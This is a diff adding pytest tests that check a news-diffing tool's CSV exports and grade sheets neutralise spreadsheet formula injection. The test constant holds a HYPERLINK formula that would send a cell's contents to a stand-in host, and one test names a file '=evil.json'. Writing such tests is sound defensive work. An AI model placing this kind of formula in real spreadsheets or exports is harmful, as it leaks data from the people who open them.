@@ -7,6 +7,8 @@ the file and the reason, and no internal-error log written.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -16,7 +18,12 @@ from pathlib import Path
 import pytest
 from support.hostile_files import SECRET, hostile_set
 
+from newsdiff_gui.engine.exercise import example_exercise_path
+from newsdiff_gui.engine.report.spreadsheet_safe import FORMULA_STARTS
+
 ROOT = Path(__file__).resolve().parents[1]
+SUBMISSIONS = ROOT / "tests" / "data" / "exercise"
+EXAMPLE = example_exercise_path()
 GOOD_A = "Storm closes three ports\n\nA storm closed three ports on Friday, officials said.\n"
 GOOD_B = "Ports shut by storm\n\nThree ports were shut on Friday, port officials said.\n"
 
@@ -64,3 +71,41 @@ def test_manifest_cannot_pull_files_from_outside_into_an_export(tmp_path: Path) 
     assert len(warnings) == 4 and all(w.startswith("newsdiff: warning: ") for w in warnings)
     assert str(secret) in "".join(warnings)  # the absolute entry is named as listed
     json.loads(out.read_text("utf-8"))
+
+
+# ---------------------------------------------------------------- item 3
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
+
+
+def _formula_cells(path: Path) -> list[str]:
+    rows = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
+    return [c for row in rows[1:] for c in row if c.lstrip(" \n").startswith(FORMULA_STARTS)]
+
+
+def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
+    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
+    a.write_text(GOOD_A + "\nThe port authority said it would reopen on Monday.\n", "utf-8")
+    b.write_text(GOOD_B + f"\n{FORMULA} was added as a sentence of its own.\n", "utf-8")
+    export_csv, changes_csv = tmp_path / "export.csv", tmp_path / "changes.csv"
+    done = newsdiff("export", a, b, "--format", "csv", "-o", export_csv)
+    assert done.returncode == 0, done.stderr
+    done = newsdiff("changes", a, b, "--csv", "-o", changes_csv)
+    assert done.returncode == 0, done.stderr
+    for written in (export_csv, changes_csv):
+        rows = list(csv.reader(io.StringIO(written.read_text("utf-8"))))
+        assert any(cell.startswith("'" + FORMULA) for row in rows for cell in row), rows
+        assert _formula_cells(written) == []
+
+
+def test_grade_sheet_neutralises_a_student_named_like_a_formula(tmp_path: Path) -> None:
+    submission = json.loads((SUBMISSIONS / "cy-empty.json").read_text("utf-8"))
+    submission["student"] = FORMULA
+    hostile = tmp_path / "=evil.json"
+    hostile.write_text(json.dumps(submission), "utf-8")
+    sheet = tmp_path / "grades.csv"
+    done = newsdiff("exercise", "check", EXAMPLE, hostile, "--csv", sheet)
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.reader(io.StringIO(sheet.read_text("utf-8"))))
+    assert rows[1][0] == "'" + FORMULA
+    assert _formula_cells(sheet) == []
